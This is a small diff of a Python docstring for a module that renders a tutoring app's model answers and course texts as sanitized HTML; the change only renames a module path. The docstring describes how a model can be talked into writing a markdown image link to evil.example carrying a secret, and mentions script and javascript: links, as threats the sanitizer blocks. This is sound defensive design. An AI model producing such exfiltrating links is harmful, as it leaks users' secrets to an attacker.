@@ -1,5 +1,5 @@
 """Text as sanitized HTML: Markdown without raw HTML, without images, with safe links only. For the model's
-answers (tutor.payloads) and for Markdown course texts in the reader view (courses.views.passage).
+answers (tutor.chat.payloads) and for Markdown course texts in the reader view (courses.views.passage).
 
 A model can be talked into writing ``![x](https://evil.example/?q=<secret>)`` (the markdown-image
 exfiltration attack) or ``<script>``/``javascript:`` links; none of that survives: raw HTML is escaped
